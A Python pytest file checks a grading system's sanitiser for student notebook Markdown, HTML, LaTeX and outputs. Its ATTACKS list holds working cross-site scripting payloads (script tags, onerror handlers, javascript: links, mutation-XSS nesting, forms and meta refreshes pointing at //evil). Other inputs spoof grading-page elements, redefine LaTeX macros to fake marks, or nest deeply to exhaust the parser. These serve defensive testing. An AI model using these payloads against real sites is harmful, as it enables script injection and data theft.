"""What a student shows is harmless when a page is made of it, and stays readable."""

import base64
import math
import re
import time
from html.parser import HTMLParser

import nbformat
import pytest
from bleach._vendor import html5lib  # a parser that reads HTML as browsers do
from hypothesis import given, settings
from hypothesis import strategies as st
from nbconvert.filters import markdown2html

from grading import bounded, safe
from grading.htmlclean import CLASSES, clean
from grading.safe import clean_code, clean_html, clean_markdown, clean_outputs, presentable
from grading.text import storable

DANGEROUS_TAGS = {"script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "link", "meta", "base", "video", "audio", "template"}  # fmt: skip
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * 20).decode()


class Active(HTMLParser):
    """Collects whatever a browser would run or fetch."""

    def __init__(self, page: str):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        if tag in DANGEROUS_TAGS:
            self.found.append(tag)
        for name, value in attributes:
            address = "".join((value or "").split()).replace("\0", "").lower()
            if name.startswith("on") or name in ("srcdoc", "formaction", "action", "srcset", "background"):
                self.found.append(name)
            if name in ("href", "src") and not address.startswith(
                ("http:", "https:", "mailto:", "#", "data:image/png", "data:image/jpeg")
            ):
                if ":" in address.split("/")[0].split("#")[0]:
                    self.found.append(address)
            if name == "src" and not address.startswith("data:image/"):
                self.found.append(f"fetches {address}")

    handle_startendtag = handle_starttag


ATTACKS = [
    "<script>alert(1)</script>",
    "<script src=//evil></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil/pixel.png'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](jAvAsCrIpT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil/pixel.png)",
    "![x](x 'onerror=alert(1)')",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<style>body{display:none}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='position:fixed;top:0;width:100%;height:100%'>x</div>",
    "<form action=//evil><input name=p></form>",
    "<meta http-equiv=refresh content='0;url=//evil'>",
    "<base href=//evil>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--><script>alert(1)</script>-->",
    "`<script>`\n\n</code><script>alert(1)</script>",
    "```\n</pre><script>alert(1)</script>\n```",
    "$\\unicode{<img src=x onerror=alert(1)>}$",
    "<img src=x\nonerror\n=alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href=//evil onclick=alert(1)>x",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_and_markdown_hold_nothing_active(attack):
    assert Active(clean_html(attack)).found == []
    assert Active(markdown2html(clean_markdown(attack))).found == []


pieces = st.sampled_from(
    [
        *ATTACKS,
        "<",
        ">",
        "](",
        "[x]",
        "javascript:",
        " onerror=",
        "`",
        "```\n",
        "\n\n",
        "&#60;",
        "&lt;",
        "text",
        '"',
        "'",
        "<!--",
        "\0",
    ]
)


@given(st.lists(pieces, max_size=8).map("".join))
@settings(max_examples=300, deadline=None)
def test_no_mixture_of_attacks_is_active(text):
    assert Active(clean_html(text)).found == []
    assert Active(markdown2html(clean_markdown(text))).found == []


@pytest.mark.parametrize(
    "text",
    [
        "**Bold**, *italic*, `a < b`, and a list:\n\n- one\n- two",
        "| a | b |\n| --- | --- |\n| 1 | 2 |",
        "a < b and c > d",
        "See <https://example.org>, __all__ of it.",
        "$a_1 < b$",
        "```python\nif a < b:\n    print('x')\n```",
    ],
)  # fmt: skip
def test_ordinary_answers_look_as_they_did(text):
    def words(page):
        return " ".join("".join(part.split(">")[-1] for part in page.replace("&#10;", " ").split("<")).split())

    assert words(markdown2html(clean_markdown(text))) == words(markdown2html(text))


def text_of(page: str) -> str:
    """What a reader sees of a page."""
    return " ".join("".join(html5lib.parse(page).itertext()).split())


PROSE = {
    "if a<b and c>d the gap x<0.05 holds": "if a<b and c>d the gap x<0.05 holds",
    "`x` is a List<int>, f<T>(x), of <your name> and </T>": "x is a List<int>, f<T>(x), of <your name> and </T>",
    "The <title> column and the <script> tag.\n\nMore.": "The <title> column and the <script> tag. More.",
    "An arrow <!-- and no comment.\n\nMore.": "An arrow <!-- and no comment. More.",
    "![a plot](https://evil.org/x.png) and ![mine](plot.png)": (
        "[a picture that is not shown here: a plot, https://evil.org/x.png] and "
        "[a picture that is not shown here: mine, plot.png]"
    ),
    "![gone](attachment:gone.png) **x**": "[a picture that is not shown here: gone, attachment:gone.png] x",
    "- [x] done\n- [ ] open": "☑ done ☐ open",
    "<center>c</center> <mark>m</mark> <font color=red>r</font>": "c m r",
    "```html\n<title><b and c>\n```": "<title><b and c>",
    "Größe, 中文, العربية, 🙂, $a<b$ and $5 < $6": "Größe, 中文, العربية, 🙂, $a<b$ and $5 < $6",
}


@pytest.mark.parametrize(("text", "seen"), PROSE.items())
def test_what_was_written_can_be_read(text, seen):
    assert text_of(markdown2html(clean_markdown(text))) == seen
    if "<" in text and not re.search("[`$\\[]", text):
        assert text_of(clean_html(text)) == seen


def test_pasted_pictures_are_shown_where_they_were_pasted():
    source = "Before ![one](attachment:my%20shot.png) *after* <img src='attachment:my shot.png'>"
    for text, attached, count in [
        (source, {"my shot.png": {"image/png": PNG}}, 1),
        (f"Colab: ![two](data:image/png;base64,{PNG}) and ![][r]\n\n[r]: data:image/png;base64,{PNG}", None, 2),
        ("![x](attachment:x.png)", {"x.png": {"image/png": PNG + '" onerror="x'}}, 0),
        ("![x](attachment:x.png)", {"x.png": {"image/svg+xml": "<svg/>", "image/png": ["x"]}, "y": 1}, 0),
    ]:
        page = markdown2html(clean_markdown(text, attached))
        assert page.count(f'src="data:image/png;base64,{PNG}"') == count, page
        assert Active(page).found == [] and ("not shown here" in page) == (count < 2)
    often = clean_markdown("![x](attachment:x) " * 2000, {"x": {"image/png": PNG + "A" * (6 * 2**20)}})
    assert len(often) < safe.MOST_PICTURES + 500_000 and often.count("not shown here") == 1998
    cells = [nbformat.v4.new_markdown_cell(f"{'word ' * 9000}![x](attachment:x.png)") for _ in range(3)]
    for cell in cells:
        cell["attachments"] = {"x.png": {"image/png": PNG + "A" * (6 * 2**20)}}
    shown = presentable(nbformat.v4.new_notebook(cells=cells)).cells
    assert [safe.DRAWN.search(cell.source) is not None for cell in shown] == [True, True, False]
    assert all("word word" in cell.source and "attachments" not in cell for cell in shown)


def test_a_progress_bar_is_what_a_terminal_shows_last():
    text = "start\n" + "".join(f"\r{n} %" for n in range(101)) + "\ndone\r\nend\r"
    (kept,) = clean_outputs([{"output_type": "stream", "name": "stdout", "text": text}], 10**6)
    assert kept["text"] == "start\n100 %\ndone\nend"


def test_an_output_that_only_a_script_draws_is_said_to_be_left_out():
    page = "<div id='chart'></div><script>draw()</script>"
    for data, seen in [({"text/html": page, "text/plain": "Chart()"}, "Chart()"), ({"text/html": page}, safe.UNSEEN)]:
        (kept,) = clean_outputs([{"output_type": "display_data", "data": data, "metadata": {}}], 10**6)
        assert "text/html" not in kept.get("data", {}) and seen in str(kept)


@pytest.mark.parametrize(
    "text",
    ["$\\def\\frac#1#2{3}$", "$\\renewcommand{\\text}[1]{full marks}$", "\\[\\let\\a=\\b\\]", "$$\\gdef\\x{1}$$"]
    + ["$\\global\\let\\a\\b$", "$\\newenvironment{a}{}{}$", "$\\DeclareMathOperator{\\frac}{x}$"],
)
def test_a_formula_changes_no_other_formula(text):
    for page in (clean_html(text), markdown2html(clean_markdown(text))):
        assert page.count("<pre>") == 1 and not safe.ACTIVE_TEX.search(re.sub("<pre>.*?</pre>", "", page))


@pytest.mark.parametrize(
    "text", ["$\\smash{\\raise-30em{\\text{5/5}}}$", "$$\\begin{array}{c}\\\\[-99em]x\\end{array}$$"]
)
def test_a_formula_that_leaves_its_place_is_cut_off_at_the_edge_of_its_text(text):
    assert clean_html(text).startswith(safe.BOX)
    assert markdown2html(clean_markdown(text)).startswith(safe.BOX)
    shown = {"output_type": "display_data", "data": {"text/latex": text}, "metadata": {}}
    assert clean_outputs([shown], 10**6)[0]["data"]["text/html"].startswith(safe.BOX)


def test_tables_and_pictures_survive():
    table = "<table border='1' class='dataframe'><thead><tr><th>a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>"
    shown = {
        "output_type": "display_data",
        "data": {"text/html": table, "image/png": PNG},
        "metadata": {"image/png": {"alt": "a bar"}},
    }
    (kept,) = clean_outputs([shown], 10**6)
    assert "<td>1</td>" in kept["data"]["text/html"] and kept["data"]["image/png"] == PNG
    assert kept["metadata"] == {"image/png": {"alt": "a bar"}}


def test_what_no_cell_gives_is_left_out_and_the_rest_is_valid():
    odd = [
        None,
        5,
        {},
        {"output_type": "widget"},
        {"output_type": "display_data", "data": {"application/javascript": "alert(1)", "image/svg+xml": "<svg/>"}},
        {"output_type": "display_data", "data": {"image/png": "<script>", "text/plain": ["x"]}},
        {"output_type": "error", "ename": 5, "evalue": None, "traceback": "x"},
        {"output_type": "stream", "name": "<x>", "text": 5},
        {"output_type": "execute_result", "data": {"text/plain": "1"}, "execution_count": "x", "metadata": []},
    ]
    kept = clean_outputs(odd, 10**6)
    assert [output["output_type"] for output in kept] == ["error", "stream", "execute_result"]
    cell = nbformat.v4.new_code_cell(outputs=[nbformat.from_dict(output) for output in kept])
    nbformat.validate(nbformat.v4.new_notebook(cells=[cell]))
    assert clean_outputs("x", 10) == [] == clean_outputs(None, 10)


def test_more_than_the_budget_is_left_out_with_a_note():
    text = {"output_type": "stream", "name": "stdout", "text": "x" * 1000}
    kept = clean_outputs([text] * 5, 2500)
    assert len(kept) == 3 and "left out" in kept[-1]["text"]


# --- values that a template writes without quotes -----------------------------------------------------------------


@pytest.mark.parametrize("name", ["width", "height"])
@pytest.mark.parametrize(
    "value",
    ["1 onerror=alert(1)", "1\nonerror=alert(1)", "100px ", "1e3", "", "99999999", -5, True, 1.5, None, ["1"], {"a": 1}]
    + ["\u0661\u0662", "100%\n"],
)
def test_a_size_of_a_picture_is_a_number_or_nothing(name, value):
    shown = {"output_type": "display_data", "data": {"image/png": PNG}, "metadata": {"image/png": {name: value}}}
    (kept,) = clean_outputs([shown], 10**6)
    assert kept["metadata"] == {"image/png": {}}


def test_other_metadata_is_dropped_and_sizes_stay():
    about = {"width": 300, "height": "50%", "unconfined": "x", "alt": "a\nbar", "onerror": "alert(1)"}
    metadata = {"image/png": about, "text/html": {"isolated": True}, "filenames": {"image/png": "https://evil"}}
    shown = {"output_type": "display_data", "data": {"image/png": PNG, "text/html": "x"}, "metadata": metadata}
    (kept,) = clean_outputs([shown], 10**6)
    assert kept["metadata"] == {"image/png": {"width": 300, "height": "50%", "alt": "a bar"}}


# --- nothing poses as the page ------------------------------------------------------------------------------------

POSES = [
    "<div class='nbgrader_cell'><h4 id='test_q1'>x</h4></div>",
    "<div class=modal-backdrop>x</div>",
    "<p class='highlight full-credit' id=statusmessage name=top data-toggle=modal>x</p>",
    "# test_q1",
    "test_q1\n=======",
    "## [test_q1](https://x.org)",
    "<h1>test_q1</h1>",
    "</div></div></div><div class=score>x",
    "```mermaid\nx\n```",
    "- [x] test_q1",
]


def elements(page: str):
    return list(html5lib.parse(page, namespaceHTMLElements=False).iter())


@pytest.mark.parametrize("text", POSES)
def test_no_id_no_name_and_no_class_of_the_page_survives(text):
    for page in (clean_html(text), markdown2html(clean_markdown(text))):
        for element in elements(page):
            assert not {"id", "name", "data-toggle"} & set(element.attrib), page
            assert set(element.get("class", "").split()) <= CLASSES, page


TAGS = "a b div p pre ul ol li dl dt dd table thead tbody tr td th caption colgroup col h1 h2 details summary br img".split()
marks = st.tuples(st.sampled_from(["<{}>", "</{}>", "<{} href='https://x.org' src=x>", "x"]), st.sampled_from(TAGS))


@given(st.lists(marks.map(lambda mark: mark[0].format(mark[1])), max_size=25).map("".join))
@settings(max_examples=400, deadline=None)
def test_nothing_ends_the_element_around_it(text):
    """As a browser reads it: what was cleaned stays in the box in which it is put, and cleaning again changes nothing."""
    cleaned = clean(text)
    body = html5lib.parse(f"<!DOCTYPE html><main><div>{cleaned}</div><i></i></main>", namespaceHTMLElements=False)[1]
    (outer,) = body
    assert [child.tag for child in outer] == ["div", "i"], cleaned
    assert clean(cleaned).count("<") == cleaned.count("<")


def test_the_nested_table_that_a_browser_would_end_early():
    for text in ("<table><div><table></table></div></table>", "<ul><li><div><li></li></div></li></ul>"):
        (outer,) = html5lib.parse(f"<!DOCTYPE html><main>{clean(text)}</main>", namespaceHTMLElements=False)[1]
        assert outer.tag == "main"


def test_a_link_says_where_it_goes():
    assert "the guide [https://evil.org/x]</a>" in clean_markdown("[the guide](https://evil.org/x)")
    assert clean_html("<a href='https://x.org'>https://x.org</a>").count("https://x.org") == 2
    for address in ("/formgrader/api/x", "prev", "#top", "//evil.org", "ftp://x", "data:text/html,x"):
        assert "href" not in clean_html(f"<a href='{address}'>x</a>")


@pytest.mark.parametrize(
    "text",
    ["$\\mmlToken{mglyph}[src=http://evil/x]{}$", "$\\mml&#84;oken{mglyph}[src=//evil]$", "$\\mml<b></b>Token{mi}$"]
    + ["\\[\\cssId{test_q1}{x}\\]", "$$\\require{action}$$", "\\begin{align}\\href{javascript:x}{y}\\end{align}"],
)
def test_a_formula_that_does_more_than_show_is_shown_as_text(text):
    for page in (clean_html(text), markdown2html(clean_markdown(text))):
        shown = re.sub("<pre>.*?</pre>", "", page, flags=re.DOTALL)
        assert not safe.ACTIVE_TEX.search("".join(html5lib.parse(shown).itertext())), page
    shown = {"output_type": "display_data", "data": {"text/latex": text.replace("&#84;", "T").replace("<b></b>", "")}}
    assert clean_outputs([shown], 10**6) == []
    ordinary = {"output_type": "display_data", "data": {"text/latex": "$\\frac{1}{2}$"}, "metadata": {}}
    assert clean_outputs([ordinary], 10**6) == [ordinary]


def test_what_was_cleaned_is_one_block_in_which_markdown_looks_for_nothing():
    for text in [
        *POSES,
        *ATTACKS,
        "# a\n\n$$x$$\n\n```python\na\n\nb\n```\n\n* x\n\n\\begin{a}\n\n\\end{a}",
        "<b>\x85\u2028x",
    ]:
        kept = clean_markdown(text)
        if kept != text:
            assert markdown2html(kept).rstrip("\n") == kept


# --- surrogates, depth, and cost ----------------------------------------------------------------------------------


def test_long_ordinary_text_stays_as_it_was_written():
    part = "A **measure** of `a < b` holds for _most_ rows; see $p_0 \\leq 1$ and [1, 2].\n\n- one\n- two\n\n"
    assert clean_markdown(part * 500) == part * 500


def test_halves_of_a_pair_can_be_written():
    half = "a\ud800b"
    outputs = [
        {"output_type": "stream", "text": half},
        {"output_type": "error", "ename": half, "evalue": half, "traceback": [half]},
        {"output_type": "display_data", "data": {"text/html": half, "text/plain": half, "text/latex": half}},
        {"output_type": "display_data", "data": {"image/png": PNG}, "metadata": {"image/png": {"alt": half}}},
        {"output_type": "display_data", "data": {"text/html": "&#xD800;<b title='\udfff'>", "text/markdown": half}},
    ]
    assert "\ufffd" in str(clean_outputs(outputs, 10**6)).encode("utf-8").decode()
    assert clean_markdown(half) == clean_code(half) == "a\ufffdb"


def test_code_is_shown_in_the_order_in_which_it_runs():
    code = "if role != 'user\u202e \u2066# only for teachers\u2069 \u2066':  # عربي, 中文"
    assert clean_code(code) == "if role != 'user\\u202e \\u2066# only for teachers\\u2069 \\u2066':  # عربي, 中文"


DEEP = {
    "brackets in a style": "<p style='color:" + "(" * 5000 + "'>x",
    "lists in lists": "<ul><li>" * 8000 + "x",
    "bold in bold": "<b>" * 20000 + "x",
    "tables in tables": "<table><tr><td>" * 5000 + "x",
    "quotes": "> " * 8000 + "x",
    "brackets of links": "[" * 20000 + "](x)" * 9000,
    "formulas without an end": "\\\\[" * 16000,
    "stars": "*a _b " * 8000,
    "a number without an end": "&#" + "9" * 40000 + ";",
    "a number with many zeros": "&#" + "0" * 40000 + "60;script>",
    "comments without an end": "<!--" * 12000,
    "fences": "```\n~~~\n" * 5000,
}


@pytest.mark.parametrize("text", DEEP.values(), ids=DEEP)
def test_no_text_costs_more_than_its_length_allows(text):
    start = time.process_time()
    page = clean_html(text)
    assert time.process_time() - start < 5  # far beyond what it takes; minutes, or a RecursionError, without bounds
    assert all(page[:place].count("<") - 2 * page[:place].count("</") <= 66 for place in range(0, len(page), 997))
    html5lib.parse(markdown2html(clean_markdown(text))[:20000])


def test_a_table_has_no_more_columns_than_its_text_could_hold():
    wide = "<table><tr>" + "<td colspan=999>x</td>" * 10_000 + "</tr></table>"  # ten million; a browser makes them all
    assert sum(map(int, re.findall('colspan="([0-9]+)"', clean_html(wide)))) <= len(wide) + 100
    ordinary = "<table><tr>" + '<th colspan="9">x</th>' * 50 + "</tr></table>"
    assert clean_html(ordinary) == ordinary


def test_a_text_that_takes_too_long_is_ended_and_the_next_one_is_rendered():
    slow = "\\\\[" * 100_000
    with pytest.raises(bounded.TooMuch, match="longer than 0.3 s"):
        bounded.call("safe.rendered", slow, seconds=0.3)
    with pytest.raises(bounded.TooMuch, match="AttributeError"):
        bounded.call("safe.rendered", 5, seconds=5)
    assert bounded.call("safe.rendered", "*x*", seconds=5) == "<p><em>x</em></p>\n"


def test_many_texts_have_one_time_together():
    slow = ["\\\\[" * 3000 + str(i) for i in range(200)]
    with bounded.at_most(0.5):
        start = time.process_time()
        for text in slow:
            clean_markdown(text)
        assert bounded.left() <= 0
        assert clean_markdown("*mine*") == "<div><pre>*mine*</pre></div>"
        assert (
            clean_html("<b>x</b><script>y</script>") == "<pre>&lt;b&gt;x&lt;/b&gt;&lt;script&gt;y&lt;/script&gt;</pre>"
        )
        with pytest.raises(bounded.Spent):
            bounded.call("safe.rendered", "x", seconds=5)
        assert time.process_time() - start < 2
    assert bounded.left() == math.inf
    assert clean_markdown("*mine*") == "*mine*"  # what was shown otherwise for want of time is not kept for others


def test_html_takes_of_the_same_time():
    with bounded.at_most(0.2):
        for _ in range(1000):
            clean_html("<script>x</script>" * 10_000)
            if bounded.left() <= 0:
                break
        assert bounded.left() <= 0


def test_a_process_that_died_is_replaced():
    bounded.call("safe.rendered", "x", seconds=5)
    bounded._free[-1].process.kill()
    with pytest.raises(bounded.TooMuch):
        bounded.call("safe.rendered", "x", seconds=5)
    assert bounded.call("safe.rendered", "x", seconds=5) == "<p>x</p>\n"


def test_a_notebook_shows_so_much_and_not_more():
    big = "a = 1  # <b>\n" * 400_000
    cells = [nbformat.v4.new_code_cell(big), nbformat.v4.new_markdown_cell(big), nbformat.v4.new_raw_cell(big)]
    cells += [nbformat.v4.new_code_cell("x" * 40_000) for _ in range(30)]
    text = {"output_type": "stream", "name": "stdout", "text": "x" * 10**6}
    cells[0].outputs = [nbformat.from_dict(output) for output in clean_outputs([text] * 100_000, 16 * 2**20)]
    shown = presentable(nbformat.v4.new_notebook(cells=cells))
    assert len(nbformat.writes(shown)) < safe.MOST_SOURCES + safe.MOST_TEXT + 200_000
    assert "left out" in shown.cells[0].source and "left out" in shown.cells[1].source
    assert shown.cells[-1].source == f"# {safe.NOTE}" and safe.NOTE in shown.cells[0].outputs[-1]["text"]
    assert shown.cells[2].cell_type == "markdown"  # a template takes some of the HTML of a raw cell


def test_a_text_that_no_file_takes_becomes_one_that_does():
    value = {"\ud800": ["a\udfff", 1, None, {"ö🙂": "🙂"}]}
    assert storable(value) == {"\ufffd": ["a\ufffd", 1, None, {"ö🙂": "🙂"}]}
